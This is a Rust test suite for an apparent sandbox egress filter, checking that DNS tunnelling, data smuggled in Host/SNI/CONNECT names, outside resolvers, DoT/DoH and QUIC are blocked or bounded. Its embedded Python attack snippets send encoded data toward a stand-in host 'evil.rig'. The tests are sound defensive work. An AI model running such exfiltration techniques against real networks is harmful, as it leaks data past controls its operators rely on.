//! D: DNS as a way out, and the protocols that would come instead of TCP.

use hickory_proto::rr::RData;
use hickory_proto::rr::rdata::svcb::{Alpn, EchConfigList, SvcParamKey, SvcParamValue};
use hickory_proto::rr::rdata::{HTTPS, SVCB};

use super::client::{assert_answer, attack};
use crate::support::world::World;

/// D37: data in names that are not allowed. None of them is asked of anybody.
#[test]
fn d37_tunnelling_in_refused_names() {
    World::each_wide(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "codes = set()
for i in range(300):
    for kind in (1, 16):
        codes.add(ask(f'{os.urandom(20).hex()}.evil.rig', kind)[0])
print('codes:', sorted(codes))",
        );
        outcome.assert_denied("no-rule", &[("protocol", "dns")]);
        let asked = world.wide.as_ref().expect("the wide world").names.asked();
        assert!(!asked.iter().any(|(name, _)| name.ends_with("evil.rig")), "{asked:?}");
    });
}

/// D37, beneath an allowed wildcard: not ended, but bounded.
#[test]
fn d37_tunnelling_in_allowed_names_is_bounded() {
    World::each_wide(|world| {
        let run = world.run().allow("*.evil.rig");
        let outcome = attack(
            world,
            run,
            "for i in range(400):
    attempt(str(i), lambda: ask(f'{os.urandom(20).hex()}.evil.rig')[0])",
        );
        assert_eq!(outcome.stdout.lines().count(), 400);
        let asked = world.wide.as_ref().expect("the wide world").names.asked().len();
        // A burst of 100 cache misses, and 20 a minute for as long as the test took.
        assert!((100..=160).contains(&asked), "{asked} questions went out");
    });
}

/// D38: data in a name that we would look up ourselves: judged before it is resolved.
#[test]
fn d38_a_denied_name_never_reaches_a_resolver() {
    World::each_wide(|world| {
        let run = world.run().policy("version: 1\nmode: allow-all\ndeny: [\"*.evil.rig\", evil.rig]\n");
        let outcome = attack(
            world,
            run,
            "tcp('host', EVIL, 80, request('data1.evil.rig'))
greet('sni', EVIL, 443, records(hello(b'data2.evil.rig')))
tcp('connect', EVIL, 80, b'CONNECT data3.evil.rig:443 HTTP/1.1\\r\\nHost: data3.evil.rig:443\\r\\n\\r\\n')
attempt('dns', lambda: ask('data4.evil.rig')[0])",
        );
        for name in ["data1.evil.rig", "data2.evil.rig"] {
            outcome.assert_denied("denied-domain", &[("name", name)]);
        }
        let asked = world.wide.as_ref().expect("the wide world").names.asked();
        assert!(!asked.iter().any(|(name, _)| name.contains("evil")), "{asked:?}");
        world.evil.assert_untouched();
    });
}

/// D38, by way of an alias: a resolver that answers with one alone is not asked for what it stands for. A resolver that
/// recurses does not answer so, but the rig's does, which is a mock.
#[test]
fn d38_what_an_alias_stands_for_never_reaches_a_resolver() {
    World::each_wide(|world| {
        let names = &world.wide.as_ref().expect("the wide world").names;
        let alias = |name: &str, to: &str| {
            let to = hickory_proto::rr::Name::from_ascii(to).expect("a name");
            names.add(name, RData::CNAME(hickory_proto::rr::rdata::CNAME(to)));
        };
        alias("alias.rig", "secret.evil.rig.");
        names.set("secret.evil.rig", &[world.evil.address.into(), world.evil.address6.into()]);
        let run = world.run().policy("version: 1\nallow: [alias.rig]\ndeny: [\"*.evil.rig\"]\n");
        let outcome = attack(
            world,
            run,
            "for kind in (1, 28, 16, 33, 65):
    code, addresses, _ = ask('alias.rig', kind)
    print(f'{kind}: {code} {addresses}')
tcp('host', ALLOWED, 80, request('alias.rig'))
greet('sni', ALLOWED, 443, records(hello(b'alias.rig')))",
        );
        for kind in [1, 28, 16, 33, 65] {
            assert_answer(&outcome, &kind.to_string(), &["0 []"]);
        }
        assert_answer(&outcome, "host", &["HTTP/1.1 502"]);
        let asked = names.asked();
        assert_eq!(asked.len(), 5, "one question of each type: {asked:?}");
        assert!(asked.iter().all(|(name, _)| name == "alias.rig"), "{asked:?}");
        world.evil.assert_untouched();
    });
}

/// D39: any other resolver: port 53 anywhere is ours, DoT, DoH, mDNS and LLMNR are refused.
#[test]
fn d39_other_resolvers() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
for server in (EVIL, '8.8.8.8', EVIL6):
    for over in ('udp', 'tcp'):
        attempt(f'{over} {server}', lambda: 'answered' if ask('allowed.rig', server=server, over=over)[1] else 'empty')
greet('dot', EVIL, 853, records(hello(b'evil.rig')))
greet('dot without a name', EVIL, 853, records(hello()))
greet('doh', EVIL, 443, records(hello(b'dns.evil.rig')))
attempt('mdns', lambda: ask('allowed.local', server='224.0.0.251', port=5353, patience=1))
attempt('llmnr', lambda: ask('allowed', server=EVIL, port=5355))
",
        );
        for server in [world.evil.address.to_string(), "8.8.8.8".to_owned(), world.evil.address6.to_string()] {
            for over in ["udp", "tcp"] {
                assert_answer(&outcome, &format!("{over} {server}"), &["answered"]);
            }
        }
        for what in ["dot", "dot without a name", "doh"] {
            assert_answer(&outcome, what, &["refused", "handshake"]);
        }
        outcome.assert_denied("no-rule", &[("name", "evil.rig"), ("port", "853")]);
        outcome.assert_denied("no-name", &[("port", "853")]);
        // What is sent to a group reaches nobody, and nobody says so.
        assert_answer(&outcome, "mdns", &["timeout", "refused", "ENETUNREACH"]);
        assert_answer(&outcome, "llmnr", &["refused"]);
        world.evil.assert_untouched();
    });
}

/// D40: QUIC. It is refused at once, so that clients come back over TCP.
#[test]
fn d40_quic_is_refused_at_once() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
def quic(address):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect((address, 443))
        s.send(b'\\xc0\\x00\\x00\\x00\\x01' + os.urandom(1195))
        s.recv(1)
for address in (EVIL, ALLOWED, EVIL6, ALLOWED6):
    attempt(address, lambda: quic(address))
",
        );
        assert_eq!(outcome.stdout.lines().count(), 4, "{outcome:#?}");
        for line in outcome.stdout.lines() {
            assert!(line.ends_with(": refused") || line.ends_with("UNREACH"), "{line}: {outcome:#?}");
        }
        world.evil.assert_untouched();
        world.allowed.assert_untouched();
    });
}

/// D40 and D41: records that steer clients to QUIC or hide the name: taken out of the answer.
#[test]
fn d41_service_records_carry_no_ech_and_no_quic() {
    World::each_wide(|world| {
        let wide = world.wide.as_ref().expect("the wide world");
        let parameters = vec![
            (SvcParamKey::Alpn, SvcParamValue::Alpn(Alpn(vec!["h3".to_owned(), "h2".to_owned()]))),
            (SvcParamKey::EchConfigList, SvcParamValue::EchConfigList(EchConfigList(b"rig-ech-config".to_vec()))),
        ];
        let target = hickory_proto::rr::Name::root();
        wide.names.add("allowed.rig", RData::HTTPS(HTTPS(SVCB::new(1, target, parameters))));
        let script = "
code, _, answer = ask('allowed.rig', 65)
print('code:', code)
for needle in (b'\\x02h3', b'rig-ech-config', b'\\x02h2'):
    print(f'{needle}:', needle in answer)";
        let outcome = attack(world, world.run().allow("allowed.rig"), script);
        assert_answer(&outcome, "code", &["0"]);
        assert_answer(&outcome, "b'\\x02h3'", &["False"]);
        assert_answer(&outcome, "b'rig-ech-config'", &["False"]);
        assert_answer(&outcome, "b'\\x02h2'", &["True"]);
    });
}
